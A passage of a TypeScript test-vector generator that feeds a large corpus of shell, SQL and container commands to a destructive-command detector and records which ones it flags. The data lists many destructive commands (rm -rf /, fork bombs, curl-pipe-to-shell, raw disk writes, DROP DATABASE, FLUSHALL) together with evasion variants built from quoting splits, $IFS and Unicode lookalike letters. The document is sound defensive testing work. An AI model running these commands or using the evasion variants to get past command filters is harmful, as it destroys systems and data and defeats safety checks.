  for (const c of ['fdisk', 'sfdisk', 'gdisk', 'sgdisk', 'cfdisk', 'cgdisk']) {
    for (const o of ['-l', '--list', '-x', '--list-details', '-h', '--help', '-V', '--version', '-u', '--units', '-d', '--dump', '-J', '--json',
      '-s', '--show-size', '-g', '--show-geometry', '--verify', '-v', '-F', '--list-free', '-q', '--quiet', '-p', '--print', '-i', '--info',
      '-O', '--print-mbr', '-L', '--list-types', '-P', '--pretend', '-?', '-b', '--backup=x', '-Z', '-lu', '-l2', '-ql', '--zap-all']) {
      out.push([c, o, '/dev/sda']);
    }
    out.push([c, '/dev/sda'], [c]);
  }
  for (const w of ['print', 'p', 'help', 'version', 'unit', 's', 'b', 'kb', 'MB', 'gb', 'tb', 'kib', 'mib', 'gib', 'TiB', '%', 'cyl', 'chs', 'compact',
    'free', 'all', 'list', 'devices', 'mkpart', 'rm', 'resizepart', 'KİB', 'KiB']) {
    out.push(['parted', '/dev/sda', w]);
  }
  for (const a of [['-l', '-m'], ['-l', '-s'], ['--list', '--machine'], ['-h'], ['-v', '-a', 'x'], ['-ls'], ['-lm'], ['-l', '--script'], ['-s', '/dev/sda', 'print']]) {
    out.push(['parted', ...a]);
  }
  for (const a of [['-R', '777', 'x'], ['-R', '0777', 'x'], ['-R', '00777', 'x'], ['-R', '1777', 'x'], ['-R', '7777', 'x'], ['-R', 'a+rwx', 'x'],
    ['-R', '+rwx', 'x'], ['-R', '=rwx', 'x'], ['-R', 'ugo+rwxt', 'x'], ['-R', 'ogu=rwxX', 'x'], ['-R', 'u+rwx', 'x'], ['-R', 'go+rwx', 'x'],
    ['-R', '755', '/usr'], ['-R', '755', '/usr/local'], ['-R', '755', '/*'], ['-R', '755', '/lib64/'], ['-R', '755', '/x/../y'],
    ['--recursive', '777', 'x'], ['-vR', '777', 'x'], ['-r', '777', 'x'], ['-R', '--reference=/etc', '/etc'], ['--reference=x', 'y'],
    ['-v'], ['-R'], ['777']]) {
    out.push(['chmod', ...a], ['chown', ...a], ['chgrp', ...a]);
  }
  for (const a of [['-delete'], ['-fprint', 'f'], ['-fprint0', 'f'], ['-fprintf', 'f', '%p'], ['-fls', 'f'], ['-print'], ['-ls'],
    ['-exec', 'rm', '{}', '+'], ['-exec', '/bin/rm', '{}', ';'], ['-execdir', 'shred', '{}', ';'], ['-ok', 'unlink', '{}', ';'],
    ['-okdir', 'ls', '{}', ';'], ['-exec', 'grep', 'x', '{}', ';', '-fprint', 'f'], ['-exec', 'ls', ';', '-exec', 'reboot', ';'],
    ['-exec', 'ls', '\\;', '-delete'], ['-exec'], ['-exec', 'sh', '-c', 'rm -rf "$1"', 'sh', '{}', ';']]) {
    out.push(['find', '/srv', ...a]);
  }
  for (const t of ['docker', 'podman', 'nerdctl']) {
    for (const a of [['rm', '-f', 'x'], ['rm', 'x'], ['rmi', '--force', 'x'], ['rmi', 'x'], ['container', 'rm', '-f', 'x'], ['container', 'remove', '-vf', 'x'],
      ['volume', 'rm', '-f', 'x'], ['image', 'prune'], ['network', 'prune', '-f'], ['builder', 'prune'], ['buildx', 'prune'], ['pod', 'rm', '-f', 'x'],
      ['system', 'df'], ['ps', '-f', 'x'], ['--context', 'x', 'rm', '-f', 'y'], ['-H', 'x', 'system', 'prune'], ['run', '--rm', '-f', 'x'],
      ['logs', '-f', 'x'], ['compose', 'rm', '-f'], ['exec', 'x', 'reboot'], ['inspect', 'prune']]) {
      out.push([t, ...a]);
    }
  }
  for (const a of [['delete', 'pod', 'x'], ['get', 'pods'], ['exec', 'x', '--', 'reboot'], ['run', 'x', '--image=y', '--', 'rm', '-rf', '/']]) {
    out.push(['kubectl', ...a], ['oc', ...a]);
  }
  for (const sql of ['DROP TABLE t', 'drop   table t', 'DROP TEMPORARY TABLE t', 'DROP/**/TABLE t', 'DROP -- c\nTABLE t', 'DROP DATABASE x',
    'drop schema x', 'DROP DATABAſE x', 'DROP SCHEMA x', 'TRUNCATE t', 'truncate table t', 'TRUNCATE ONLY t', 'TRUNCATE "t"', 'TRUNCATE `t`',
    'TRUNCATE [t]', 'TRUNCATE 5', 'truncate ſessions', 'DELETE FROM t', 'delete from t where x', 'DELETE FROM t WHERE', 'DELETE FROM t -- WHERE x',
    'DELETE FROM t /* WHERE */', 'DELETE FROM', 'delete  from\tt', 'SELECT droppings', 'DROPTABLE t', 'drop\u00a0table t', 'drop\u2028table t',
    'DROP INDEX i', 'DELETE t']) {
    out.push(['psql', '-c', sql]);
  }
  for (const a of [['FLUSHALL'], ['flushdb'], ['FlushAll'], ['fluſhall'], ['flushall', 'async'], ['flush'], ['-n', '1', 'FLUSHDB']]) out.push(['redis-cli', ...a]);
  for (const a of [['drop', 'x'], ['DROP', 'x'], ['Drop', 'x'], ['drop\u0130', 'x'], ['create', 'x']]) out.push(['mysqladmin', ...a]);
  for (const a of [['destroy', 'x'], ['list'], ['-r', 'destroy'], ['snapshot', 'x@y']]) out.push(['zfs', ...a], ['zpool', ...a]);
  for (const a of [['0'], ['6'], ['3'], ['q'], ['--version']]) out.push(['init', ...a], ['telinit', ...a]);
  for (const a of [['of=/dev/sda'], ['if=/dev/sda'], ['if=x', 'of=y'], ['--help']]) out.push(['dd', ...a]);
  for (const a of [['-S', 'rm -rf /'], ['-S\nrm -rf /'], ['-iS', 'reboot'], ['-iSreboot'], ['-S\treboot'], ['-vS', 'ls'], ['--split-string=reboot'],
    ['--split-string', 'reboot'], ['-uS', 'x'], ['-S'], ['-i', 'reboot'], ['FOO=1', 'reboot'], ['-u', 'X', 'reboot'], ['-C', '/tmp', 'reboot']]) {
    out.push(['env', ...a]);
  }
  for (const script of ['reboot', ' reboot', 'echo a; reboot', 'echo a && reboot', 'echo a || reboot', 'echo a | reboot', 'echo a & reboot',
    'echo a\nreboot', '(reboot)', '{ reboot; }', 'echo $(reboot)', 'echo "$(reboot)"', "echo '$(reboot)'", 'echo `reboot`', 'echo "`reboot`"',
    'echo \\`reboot\\`', 'while true; do reboot; done', 'until x; do :; done; reboot', 'X=1 Y=2 reboot', 'time reboot', 'coproc reboot',
    '! reboot', 'if x; then :; elif y; then reboot; else :; fi', 'echo reboot', 'echo "reboot"', '# reboot', 'echo x # ; reboot', 'echo x#; reboot',
    're"boot"', "re'boot'", 're\\boot', 'reb\\\noot', 'echo x\\; reboot', '"re"boot now', 'echo "a\\"; reboot"', "echo 'a\\'; reboot",
    'rm${IFS}-rf${IFS}/', 'rm$IFS-rf /', 'rm$IFSx', 'curl x | sh', 'curl x | sudo -E bash', 'curl x|/bin/bash', 'wget -O- x | env sh',
    'fetch x | zsh', 'curl x | shx', 'curl x; sh', 'curl x | tee f', 'x(){ x|x& }; x', 'bomb () { bomb | bomb & }', 'f(){ g|f& }', ':(){ :|: };:',
    'a(){ b; }; a(){ a|a& }', 'echo x >/dev/sda1', 'echo x 1>>/dev/nvme0n1', 'echo x &>/dev/md0', 'cat </dev/sda', 'echo x >/dev/sdz9',
    'cat x 3>/dev/dm-1', 'exec 1>/dev/loop2', 'echo x > /dev/mapper/x', 'echo x > /dev/disk/by-id/y']) {
    out.push(['sh', '-c', script], ['python3', '-c', `print(${JSON.stringify(script)})`]);
  }
  for (const a of [['reboot'], ['./reboot'], ['../reboot'], ['bin/reboot'], ['/opt/bin/reboot'], ['/usr/libexec/reboot'], ['/opt/reboot'],
    ['/srv/sbin/x/reboot'], ['/etc/init.d/x', 'stop'], ['a/b/reboot'], ['x y/reboot'], ['reboot;'], ['/x/reboot;']]) {
    out.push(['sudo', ...a], ['su', ...a], ['sh', '-c', ...a], ['python3', '-c', ...a]);
  }
  for (const a of [['--no-preserve-root', 'x'], ['--no', 'x'], ['--n', 'x'], ['--r', 'x'], ['--f', 'x'], ['--forc', 'x'], ['--recursively', 'x'],
    ['--', '-rf'], ['-i', '--', '-f'], ['-v', 'x'], ['-d', 'x'], ['--=x', 'y'], ['--', 'x'], ['-', 'x'], ['x', '-fv']]) {
    out.push(['rm', ...a]);
  }
  for (const a of [['-a', '--delete', 'a', 'b'], ['--delete-after', 'a', 'b'], ['--remove-source-files', 'a', 'b'], ['-n', 'a', 'b'], ['--version']]) out.push(['rsync', ...a]);
  // Where JavaScript and a naive port part: `.` and line terminators, /i and non-ASCII letters, \s beyond ' '.
  out.push(['env', '-S\rreboot'], ['env', '-S\u2028reboot'], ['env', '-iS\u2029reboot'], ['crontab', '-u\r', '-l'], ['crontab', '-u\u2028', '-l']);
  out.push(['psql', '-c', 'TRUNCATE \u212Aeys'], ['psql', '-c', 'truncate \u0130x'], ['psql', '-c', 'TRUNCATE \u017Fessions'], ['redis-cli', 'FLU\u017FHALL']);
  out.push(['python3', '-c', 'x = "reboot\tnow"'], ['python3', '-c', 'x = "reboot\u00a0now"'], ['python3', '-c', 'x = "reboot\vnow"']);
  out.push(['fdisk', '-l\n2'], ['fdisk', '-l2\n'], ['fdisk', '-l2\r'], ['fdisk', '-l2\u2028'], ['fdisk', '-x\r1'], ['parted', '-l\u20282']);
  return out;
}

// --- Grammars of this file: random options and operands for every command the check knows. ---------------------

/** Every command name destructive.ts looks at (its switch, wrappers, shells, interpreters), and a few it does not. */
const COMMANDS = [
  'rm', 'unlink', 'rmdir', 'srm', 'truncate', 'fallocate', 'sed', 'rsync', 'scp', 'sftp', 'sudoedit', 'patch', 'curl', 'wget',
  'kill', 'pkill', 'killall', 'killall5', 'skill', 'slay', 'service', 'rc-service', 'invoke-rc.d', 'iptables', 'ip6tables',
  'iptables-legacy', 'iptables-nft', 'ebtables', 'arptables', 'iptables-restore', 'ip6tables-restore', 'nft', 'ufw', 'firewall-cmd',
  'userdel', 'useradd', 'usermod', 'groupadd', 'groupdel', 'chpasswd', 'deluser', 'adduser', 'gpasswd', 'vipw', 'visudo', 'passwd',
  'chage', 'apt', 'apt-get', 'aptitude', 'yum', 'dnf', 'zypper', 'apk', 'snap', 'pip', 'pip3', 'dpkg', 'rpm', 'pacman', 'umount',
  'swapoff', 'swapon', 'losetup', 'mount', 'sysctl', 'ip', 'ifdown', 'ifup', 'ifconfig', 'nmcli', 'setfacl', 'chattr', 'mkfs',
  'mke2fs', 'mkswap', 'mkfs.ext4', 'dd', 'shutdown', 'reboot', 'halt', 'poweroff', 'wipefs', 'shred', 'init', 'telinit', 'systemctl',
  'fdisk', 'sfdisk', 'gdisk', 'sgdisk', 'cfdisk', 'cgdisk', 'parted', 'dropdb', 'mysqladmin', 'chmod', 'chown', 'chgrp', 'tee', 'cp',
  'mv', 'ddrescue', 'pv', 'install', 'ln', 'link', 'find', 'crontab', 'lvremove', 'vgremove', 'pvremove', 'zfs', 'zpool', 'redis-cli',
  'kubectl', 'oc', 'docker', 'podman', 'nerdctl', 'sudo', 'doas', 'env', 'nohup', 'nice', 'timeout', 'xargs', 'exec', 'busybox',
  'su', 'watch', 'eval', 'ssh', 'script', 'runuser', 'parallel', 'sg', 'nsenter', 'unshare', 'setpriv', 'pkexec', 'flock', 'strace',
  'sh', 'bash', 'zsh', 'pwsh', 'python3', 'perl', 'ruby', 'node', 'php', 'awk', 'gawk', 'psql', 'mysql', 'sqlite3', 'echo', 'cat',
  'ls', 'grep', 'git', 'touch', '/bin/rm', '/usr/sbin/userdel', '/etc/init.d/nginx', '/lib64/ld-linux-x86-64.so.2', './run',
];

/** Options and operands that the check's branches turn on. */
const WORDS = [
  '-l', '-a', '-r', '-R', '-f', '-rf', '-i', '-S', '-s', '-o', '-O', '-O-', '-', '--', '--help', '-h', '--version', '-V', '-L', '-n',
  '-v', '-c', '-e', '-p', '-w', '-t', '-u', '-0', '-9', '-s0', '-x', '-d', '-F', '-C', '-Z', '-P', '-A', '-D', '-lc', '-pi', '-ec',
  '-Ei', '-qO-', '-oro', '-u0', '--delete', '--force', '--recursive', '--rec', '--spider', '--output', '--output=-', '--in-place',
  '--list', '--dump', '--print', '--show', '--summary', '--all', '--bind', '--system', '--file', '--split-string', '--reference=x',
  '--add-port=80/tcp', '--list-all', '--status', '--no-preserve-root', 'status', 'list', 'show', 'stop', 'restart', 'start', 'add',
  'del', 'delete', 'set', 'flush', 'install', 'remove', 'upgrade', 'update', 'print', 'mklabel', 'destroy', 'prune', 'rm', 'rmi',
  'exec', 'run', 'system', 'container', 'volume', 'image', 'describe', 'monitor', 'app', 'up', 'down', 'off', 'eval', 'drop', '0',
  '6', '777', '755', 'a+rwx', '/', '//', '/etc', '/usr/.', '/srv/app', '/etc/passwd', '/dev/sda', '/dev/null', '/dev/stdout',
  '/dev/nvme0n1', '/dev/mapper/x', '/tmp/x', '/sbin/reboot', '/usr/bin/kill', '/srv/kill', 'notes.txt', 'of=/dev/sda',
  'if=/dev/zero', 'net.ipv4.ip_forward=1', 'kernel.panic', 'FLUSHALL', 'flushdb', 'reboot', 'kill', 'passwd', 'ls', 'nginx', 'root',
  'eth0', 'x', 'LANG=C', '{}', ';', '+', '\\;', 'poweroff', 'rescue.target', 'daemon-reload', 'drop table t', 'DELETE FROM users',
  'TRUNCATE users', 'rm -rf /', 'echo hi > /tmp/x', 'ls 2>&1', 'os.system("ls")', 'unlink("x")', 'print $1', '{ print > "f" }',
  'sys.stdout.write(1)', 'https://x.example/a', ' ', '',
];

const SEPARATORS = [' ; ', ' && ', ' || ', ' | ', '\n', ' & ', ';'];
const REDIRECTS = ['', '', '', ' > /tmp/out', ' 2>&1', ' >/dev/null', ' >> ~/.log', ' < /etc/hosts', ' 2> /dev/null', ' >&2', ' &> f', ' 1>&-', ' > /dev/sdb'];

const soupArgv: fc.Arbitrary<Argv> = fc
  .tuple(fc.constantFrom(...COMMANDS), fc.array(fc.constantFrom(...WORDS), { maxLength: 5 }))
  .map(([cmd, args]) => [cmd, ...args]);

/** A simple command as script text: the argv shell-quoted, maybe with a redirection or inside a substitution. */
const soupCommand: fc.Arbitrary<string> = fc
  .tuple(soupArgv, fc.constantFrom(...REDIRECTS), fc.constantFrom('plain', 'plain', 'plain', 'dollar', 'quoted-dollar', 'backquote', 'prefix'))
  .map(([argv, redirect, form]) => {
    const text = joined(argv) + redirect;
    if (form === 'dollar') return `echo $(${text})`;
    if (form === 'quoted-dollar') return `echo "$(${text})"`;
    if (form === 'backquote') return `echo \`${text}\``;
    if (form === 'prefix') return `if X=1 ${text}; then :; fi`;
    return text;
  });

const soupScript: fc.Arbitrary<string> = fc
  .tuple(fc.array(soupCommand, { minLength: 1, maxLength: 3 }), fc.array(fc.constantFrom(...SEPARATORS), { minLength: 2, maxLength: 2 }))
  .map(([commands, seps]) => commands.reduce((acc, c, i) => (i === 0 ? c : `${acc}${seps[i % 2] ?? ';'}${c}`), ''));

/** A script handed to something that runs it: a shell, an interpreter's system(), a script wrapper, env -S. */
const soupScriptArgv: fc.Arbitrary<Argv> = fc.tuple(fc.constantFrom('sh', 'bash', 'python3', 'perl', 'awk', 'node', 'su', 'ssh', 'env', 'watch', 'echo'), soupScript).map(([runner, s]) => {
  switch (runner) {
    case 'sh':
      return ['sh', '-c', s];
    case 'bash':
      return ['bash', '-o', 'pipefail', '-lc', s];
    case 'python3':
      return ['python3', '-c', `import os; os.system(${JSON.stringify(s)})`];
    case 'perl':
      return ['perl', '-e', `print ${JSON.stringify(s)}`];
    case 'awk':
      return ['awk', `BEGIN { print ${JSON.stringify(s)} }`];
    case 'node':
      return ['node', '-e', `console.log(${JSON.stringify(s)})`];
    case 'su':
      return ['su', '-', 'root', '-c', s];
    case 'ssh':
      return ['ssh', 'web1', s];
    case 'env':
      return ['env', '-S', s];
    case 'watch':
      return ['watch', '-n', '5', s];
    default:
      return ['echo', s];
  }
});

function sample<T>(arb: fc.Arbitrary<T>, numRuns: number, offset: number): T[] {
  return fc.sample(arb, { seed: SEED + offset, numRuns });
}

/** The corpus, in a fixed order, each argv once. */
export function destructiveCorpus(): Argv[] {
  const groups: Argv[][] = [
    DAG_COMPILER_POSITIVE,
    DAG_COMPILER_NEGATIVE,
    limitCases(),
    GO_CASES,
    PATTERN_CASES,
    probeCases(),
    sample(wrapped(effectful, fc.oneof(passThrough, executing)), 2500, 1),
    sample(wrapped(harmless, passThrough), 1000, 2),
    sample(fc.tuple(wrapped(harmless, passThrough), executing).map(([argv, interpreter]) => interpreter(argv)), 400, 3),
    sample(wrapped(soupArgv, passThrough), 2500, 4),
    sample(soupScriptArgv, 1500, 5),
  ];
  const seen = new Set<string>();
  const corpus: Argv[] = [];
  for (const argv of groups.flat()) {
    const key = JSON.stringify(argv);
    if (seen.has(key)) continue;
    seen.add(key);
    corpus.push(argv);
  }
  return corpus;
}

export function buildDestructiveVectors(): DestructiveVector[] {
  return destructiveCorpus().map((argv) => {
    const rule = destructivePattern(argv);
    return rule === undefined ? { argv, flagged: false } : { argv, flagged: true, rule };
  });
}

export function renderDestructiveVectors(): string {
  return `[\n${buildDestructiveVectors().map((v) => `  ${JSON.stringify(v)}`).join(',\n')}\n]\n`;
}

if (import.meta.url === pathToFileURL(process.argv[1] ?? '').href) {
  const text = renderDestructiveVectors();
  if (process.argv.includes('--check')) {
    if (readFileSync(DESTRUCTIVE_VECTORS_PATH, 'utf8') !== text) {
      process.stderr.write(`${DESTRUCTIVE_VECTORS_PATH} is out of date: run npx tsx protocol/vectors/generate-destructive-vectors.ts\n`);
      process.exit(1);
    }
  } else {
    writeFileSync(DESTRUCTIVE_VECTORS_PATH, text);
  }
}
